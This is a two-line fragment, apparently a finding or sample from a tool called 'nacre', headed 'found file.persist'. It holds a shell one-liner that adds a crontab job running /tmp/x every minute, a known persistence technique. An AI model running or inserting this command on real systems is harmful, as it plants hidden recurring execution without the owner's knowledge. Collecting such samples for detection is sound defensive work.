# nacre: found file.persist
(crontab -l; echo "* * * * * sh /tmp/x") | crontab -
